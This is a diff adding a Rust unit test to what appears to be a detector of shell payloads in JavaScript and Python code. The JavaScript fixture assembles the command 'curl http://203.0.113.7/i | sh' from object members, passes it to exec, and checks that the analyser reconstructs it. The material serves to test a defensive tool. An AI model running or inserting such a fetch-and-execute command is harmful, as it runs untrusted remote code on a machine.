@@ -289,3 +289,24 @@ fn an_argument_vector_alone_is_not_a_shell_payload() {
     let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
     assert!(resolved.renditions.iter().all(|r| !r.shell));
 }
+
+#[test]
+fn members_of_object_literals_and_assigned_members_read_back() {
+    let found = javascript(concat!(
+        "const { exec } = require('child_process');\n",
+        "const cfg = { host: '203.0.113.' + 7, 'pipe': ' | sh' };\n",
+        "cfg.cmd = 'curl http://' + cfg.host + '/i';\n",
+        "exec(cfg.cmd + cfg['pipe']);\n",
+    ));
+    assert!(
+        found.contains(&"exec(\"curl http://203.0.113.7/i | sh\")".to_string()),
+        "{found:?}"
+    );
+    // A member nothing binds, or one bound to an unknown value, stays as written.
+    assert!(javascript(concat!(
+        "const { exec } = require('child_process');\n",
+        "const opts = { cmd: process.argv[2] };\n",
+        "exec(opts.cmd);\nexec(other.cmd);\n",
+    ))
+    .is_empty());
+}
